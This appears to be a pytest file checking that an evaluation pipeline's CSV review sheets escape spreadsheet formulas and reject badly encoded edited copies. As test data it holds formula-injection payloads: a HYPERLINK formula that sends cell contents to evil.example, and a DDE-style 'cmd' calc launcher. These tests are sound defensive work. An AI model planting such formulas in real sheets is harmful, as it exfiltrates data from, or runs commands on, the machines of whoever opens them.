"""Review sheets (stages/core/review.py) are CSV files people open in a spreadsheet and edit, so both
directions are untrusted:

- out: a record's text that starts like a formula (= + - @, a tab, a carriage return; a model's
  answer `=HYPERLINK(...)`) is written with a leading apostrophe, and reading the sheet back removes
  exactly that apostrophe: a round trip gives every value again;
- in: an edited copy saved in another encoding (Latin-1, a spreadsheet's own binary file), with NUL
  bytes or a field past MAX_FIELD_CHARS ends the stage with one line naming the file and where, no
  traceback; a field over csv's default 128 KiB, and a UTF-8 file with a byte-order mark (what
  spreadsheets save as "CSV UTF-8"), are read.

Run through validate_judge's CLI, whose label sheet carries a model's sentences."""
from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from conftest import run_stage
from eval_fixtures import response_row
from stages.core.review import MAX_FIELD_CHARS, read_csv, read_sheet, write_sheet
from stages.core.tables import write_table
from stages.eval_mcitebench.split_citations import parse_response

FORMULA_SENTENCE = '=HYPERLINK("https://evil.example/?leak="&A1,"see [1]") [1].'


@pytest.fixture()
def evaluation(tmp_path) -> list[str]:
    """One response whose first sentence is a formula, judged for support: validate_judge's inputs."""
    response = response_row("q1", f"{FORMULA_SENTENCE} It falls [2].", ["[1]"])
    _, sentences = parse_response(response)
    judgements = [{"id": f"judge:{s['id']}", "response_id": s["response_id"], "sentence_id": s["id"], "model": "m", "judge": "j",
                   "kind": "support", "item": None, "shown": ["[1]"], "score": 1, "status": "judged", "mode": "text"} for s in sentences]
    tables = {"responses": ([response], "eval_responses"), "sentences": (sentences, "eval_sentences"),
              "citation_judgements": (judgements, "eval_citation_judgements")}
    args = []
    for name, (rows, table) in tables.items():
        write_table(tmp_path / f"{name}.parquet", rows, table)
        args += ["--input", f"{name}={tmp_path / name}.parquet"]
    return args


def validate(tmp_path: Path, inputs: list[str], labels: Path | None = None, check: bool = True):
    out = tmp_path / ("labelled" if labels else "exported")
    extra = ["--input", f"labels={labels}"] if labels else []
    outputs = ["--output", f"labels={out}/labels.parquet", "--output", f"agreement={out}/agreement.parquet",
               "--output", f"label_sheet={out}/label_sheet.csv"]
    return run_stage("validate_judge", *inputs, *extra, *outputs, check=check), out


def labelled_copy(sheet: Path, dest: Path, note: str = "", encoding: str = "utf-8") -> Path:
    """The sheet as a person saves it after scoring every row 1: the cells as the file has them
    (formula text still quoted), human_score and note filled."""
    header, *rows = csv.reader(io.StringIO(sheet.read_text(encoding="utf-8"), newline=""))
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(header)
    for row in rows:
        row[header.index("human_score")], row[header.index("note")] = "1", note
        writer.writerow(row)
    dest.write_bytes(buf.getvalue().encode(encoding))
    return dest


def test_a_formula_in_a_record_is_neutralised_in_the_sheet_and_read_back_exactly(tmp_path, evaluation):
    _, out = validate(tmp_path, evaluation)
    raw = list(csv.reader(io.StringIO((out / "label_sheet.csv").read_text(encoding="utf-8"), newline="")))
    sentences = [row[raw[0].index("sentence")] for row in raw[1:]]
    assert sentences[0] == "'" + FORMULA_SENTENCE  # what the spreadsheet shows as text, never runs
    assert sentences[1] == "It falls [2]."  # plain text is written as it is
    labelled = labelled_copy(out / "label_sheet.csv", tmp_path / "labelled.csv", note="=1+1 looks fine")
    _, out = validate(tmp_path, evaluation, labelled)
    pairs = pq.read_table(out / "labels.parquet").to_pylist()
    assert len(pairs) == 2 and {p["human_score"] for p in pairs} == {1}
    assert read_sheet(labelled, "judgement_id", ["sentence"])[0]["sentence"] == FORMULA_SENTENCE  # the apostrophe undone


ROUND_TRIP = ['=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", "\r=1",
              "'=already quoted", "''=twice", "'plain apostrophe", "'-3", "-3", "+1.5e3", "-0.25", "", "plain", "a=b", "-", "=", "'"]


def test_every_value_survives_the_round_trip_and_no_written_cell_starts_like_a_formula(tmp_path):
    sheet = tmp_path / "sheet.csv"
    write_sheet(sheet, ["id", "text"], [{"id": str(i), "text": value} for i, value in enumerate(ROUND_TRIP)])
    cells = [row[1] for row in csv.reader(io.StringIO(sheet.read_text(encoding="utf-8"), newline=""))][1:]
    numbers = {"-3", "+1.5e3", "-0.25"}
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c, v in zip(cells, ROUND_TRIP) if v not in numbers), cells
    assert [c for c, v in zip(cells, ROUND_TRIP) if v in numbers] == ["-3", "+1.5e3", "-0.25"]  # numbers stay numbers
    _, rows = read_csv(sheet)
    assert [r["text"] for r in rows] == ROUND_TRIP
    write_sheet(sheet, ["id", "text"], rows)  # written again: the same file (review pages rewrite it on every decision)
    assert [r["text"] for r in read_csv(sheet)[1]] == ROUND_TRIP


def _xlsx() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/worksheets/sheet1.xml", "<worksheet/>")
    return buf.getvalue()


BAD_FILES = {  # kind -> (what the labelled copy holds, words of the one line); None: it is read
    "latin1": (lambda good: good.decode().replace("looks fine", "v\u00e9rifi\u00e9").encode("latin-1"), "not UTF-8 (byte 0xe9 on line 2)"),
    "utf16_unicode_text": (lambda good: good.decode().encode("utf-16"), "not UTF-8 (byte 0xff on line 1)"),
    "xlsx_named_csv": (lambda good: _xlsx(), "not UTF-8"),
    "nul_bytes": (lambda good: good.replace(b"looks fine", b"looks\x00fine"), "a NUL byte on line 2: binary data"),
    "field_past_the_cap": (lambda good: good.replace(b"looks fine", b"x" * (MAX_FIELD_CHARS + 1)), "not a readable CSV (field larger than field limit"),
    "field_over_128KiB": (lambda good: good.replace(b"looks fine", b"y" * 200_000), None),
    "utf8_with_bom": (lambda good: b"\xef\xbb\xbf" + good, None),
}


@pytest.mark.parametrize("kind", list(BAD_FILES))
def test_an_edited_sheet_that_is_not_a_utf8_csv_is_one_line(tmp_path, evaluation, kind):
    _, out = validate(tmp_path, evaluation)
    good = labelled_copy(out / "label_sheet.csv", tmp_path / "good.csv", note="looks fine").read_bytes()
    make, words = BAD_FILES[kind]
    labels = tmp_path / "labels.csv"
    labels.write_bytes(make(good))
    result, out = validate(tmp_path, evaluation, labels, check=False)
    if words is None:
        assert result.returncode == 0, result.stderr[-2000:]
        assert pq.read_table(out / "labels.parquet").num_rows == 2
        return
    assert result.returncode != 0 and "Traceback" not in result.stderr, result.stderr[-3000:]
    last = result.stderr.strip().splitlines()[-1]
    assert last.startswith(f"validate_judge: error: review sheet {labels}") and words in last, last
    assert not (out / "labels.parquet").exists()
